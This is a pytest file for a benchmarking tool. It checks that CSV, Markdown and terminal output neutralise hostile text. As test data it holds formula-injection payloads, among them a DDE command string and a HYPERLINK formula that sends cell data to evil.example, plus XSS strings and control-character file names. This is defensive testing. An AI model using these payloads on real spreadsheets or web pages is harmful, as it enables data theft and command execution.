"""Files for spreadsheets and readers: whatever people and models wrote, nothing in them acts."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from markdown_it import MarkdownIt

from tailor.benchmarking import human
from tailor.ladder import climb
from tailor.rows import rows_for
from tailor.scoring import judge_labels
from tailor.testing import Messages, OpenAIServer
from tailor.workspace import Workspace

if TYPE_CHECKING:
    from conftest import Command

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", " =1+1", "\ufeff=1+1", "＝1+1", "fine;=1+1",
    "fine\n=1+1", '=HYPERLINK("http://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0", "'=1+1",
    "@import url(http://evil.example)", "x;\t=1+1",
)  # fmt: skip
LIVE = (
    "[a](javascript:alert(1))", "![a](http://evil.example/x.png)", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "http://evil.example/x", "www.evil.example", "a|b|c",
    "`code`", "<http://evil.example>", "[a]: http://evil.example",
)  # fmt: skip
TEXTS = (*FORMULAS, *LIVE)
_SPACE = "\ufeff\u200b \t\r\n"


def runs(cell: str) -> bool:
    """Whether a spreadsheet of some country would run a part of the cell."""
    parts = re.split("[;\t\r\n]", cell)
    bare = [part.strip(_SPACE) for part in parts]
    number = re.fullmatch(r"-?\d+([.,]\d+)?([eE]-?\d+)?", cell)
    return not number and any(part[:1] in tuple("=+-@＝＋－＠") and len(part) > 1 for part in bare)


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        found = [cell for line in csv.reader(file) for cell in line]
    assert len(found) > 20
    return found


def answered(messages: Messages) -> str:
    asked = str(messages[-1]["content"])
    return TEXTS[int(re.findall(r"#(\d+)#", asked)[-1])]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    """Ids, questions, answers, tags, names and replies that want to act, with two rows run."""
    root = tmp_path_factory.mktemp("exports") / "acme"
    (root / "knowledge").mkdir(parents=True)
    lines = []
    for n, text in enumerate(TEXTS):
        name = f"{text} {n}.txt".replace("/", "∕").replace("\n", " ").replace("\t", " ")
        (root / "knowledge" / name).write_text(f"Item #{n}# says {text}.\n", "utf-8")
        item = {
            "id": f"{text}{n}", "question": f"{text} what is item #{n}#?", "answer": text,
            "evidence": [{"document": name.strip(), "quote": f"Item #{n}# says"}],
            "tags": [text], "split": "test" if n % 4 else "dev",
        }  # fmt: skip
        lines.append(json.dumps(item, ensure_ascii=False) + "\n")
    (root / "knowledge" / "benchmark.jsonl").write_text("".join(lines), "utf-8")
    with OpenAIServer(answered) as server:
        (root / "tailor.toml").write_text(
            f'model = "openai:double"\nbase_url = "{server.url}"\n'
            'ladder = ["prompting", "retrieval"]\n',
            "utf-8",
        )
        workspace = Workspace(root)
        workspace.ingest()
        climb(workspace, rows_for(workspace, ["all"]))
        yield Workspace(root)


@pytest.mark.parametrize(
    "arguments", [(), ("--answers",), ("prompting", "retrieval"), ("--details",)]
)
def test_no_cell_of_a_comparison_runs(
    hostile: Workspace, tailor: Command, tmp_path: Path, arguments: tuple[str, ...]
) -> None:
    target = tmp_path / "out.csv"
    ended = tailor("compare", *arguments, "-o", target, "-w", hostile.root)
    if "--details" in arguments and ended.code == 2:
        return  # details are no table
    assert ended.code == 0, ended.err
    found = cells(target)
    assert [cell for cell in found if runs(cell)] == []
    if "--answers" in arguments:
        assert sum("1+1" in cell for cell in found) >= 3 * 8, "else nothing was tried"


@pytest.mark.parametrize("name", ["rows", "answers"])
def test_no_cell_that_the_page_compare_gives_runs(
    hostile: Workspace, name: str, tmp_path: Path
) -> None:
    from tailor.run import compare
    from tailor.ui.compare_download import contents

    made = hostile.runs()
    _, _, make = contents(hostile, made, compare(made), "vi")[name]
    (tmp_path / "out.csv").write_text(make(), "utf-8", newline="")
    assert [cell for cell in cells(tmp_path / "out.csv") if runs(cell)] == []


def test_no_cell_that_people_fill_in_runs_and_it_comes_back(
    hostile: Workspace, tmp_path: Path
) -> None:
    target = tmp_path / "blind.csv"
    count = human.export(hostile, target, split="test")
    assert [cell for cell in cells(target) if runs(cell)] == []
    with target.open(encoding="utf-8-sig", newline="") as file:
        head, *lines = list(csv.reader(file))
    with target.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([head, *([*line[:2], "=2+2", "3"] for line in lines)])
    told = human.import_answers(hostile, target, "Ann")
    assert (told.taken, told.problems) == (count, ())


def test_no_cell_of_a_sheet_for_judges_runs(hostile: Workspace, tmp_path: Path) -> None:
    target = tmp_path / "sheet.csv"
    asked = [run for run in hostile.runs() if not run.imported]
    assert judge_labels.sheet(asked, "test", target) > 10
    assert [cell for cell in cells(target) if runs(cell)] == []


@pytest.mark.parametrize("arguments", [(), ("--answers",), ("prompting", "retrieval")])
def test_nothing_in_markdown_acts(
    hostile: Workspace, tailor: Command, tmp_path: Path, arguments: tuple[str, ...]
) -> None:
    target = tmp_path / "out.md"
    assert tailor("compare", *arguments, "-o", target, "-w", hostile.root).code == 0
    tokens = MarkdownIt("gfm-like", {"html": True, "linkify": False}).parse(target.read_text())
    inner = [part for token in tokens for part in (token.children or ())]
    assert len(inner) > 10
    allowed = ("<br>", "<!-- -->")
    assert [p for p in inner if p.type in ("link_open", "image")] == []
    assert {p.content for p in inner if p.type == "html_inline"} <= set(allowed)
    assert not any(token.type == "html_block" for token in tokens)


def test_a_name_is_not_markup_to_the_terminal(hostile: Workspace, tailor: Command) -> None:
    (hostile.knowledge / "[bold]a[red] \x1b[31m\u202ecod.txt").write_text("", "utf-8")
    try:
        ended = tailor("ingest", "-w", hostile.root)
        listed = tailor("benchmark", "stats", "-w", hostile.root)
    finally:
        (hostile.knowledge / "[bold]a[red] \x1b[31m\u202ecod.txt").unlink()
    assert ended.code == 0, ended.err
    assert listed.code == 0, listed.err
    assert "[bold]a[red] \\x1b[31m\\u202ecod.txt" in ended.err
    assert not re.search("[\x1b\u202e]", ended.err + ended.out + listed.out)


def _sources(*folders: str) -> Iterator[tuple[str, str]]:
    for folder in folders:
        for path in sorted((ROOT / folder).rglob("*.py")):
            yield path.relative_to(ROOT).as_posix(), path.read_text("utf-8")


def test_tables_are_written_where_cells_are_made_harmless() -> None:
    """Whatever else begins to write spreadsheets belongs into the tests above."""
    writes = re.compile(r"csv\.writer\(|DictWriter|to_excel|Workbook\(|xlsxwriter|\.to_csv\((?!\))")
    found = {path for path, text in _sources("platform", "stages", "ui") if writes.search(text)}
    assert found == {
        "platform/tailor/benchmarking/human.py",
        "platform/tailor/scoring/export.py",
        "platform/tailor/scoring/judge_labels.py",
        "ui/compare_download.py",
    }


def test_no_page_shows_text_as_html_or_draws_from_an_address() -> None:
    acts = re.compile(
        r"unsafe_allow_html|mark_image|\bHref\b|alt\.(?:Url|UrlData)|\bMarkup\b|iframe|components\.v"
    )
    for path, text in _sources("ui", "platform/tailor/reporting"):
        assert acts.findall(text) == [], path
    for template in (ROOT / "platform").rglob("*.jinja"):
        shown = template.read_text("utf-8")
        assert "autoescape" not in shown
        assert re.findall(r"\{\{(.*)\|\s*safe", shown) in ([], [" style "]), template
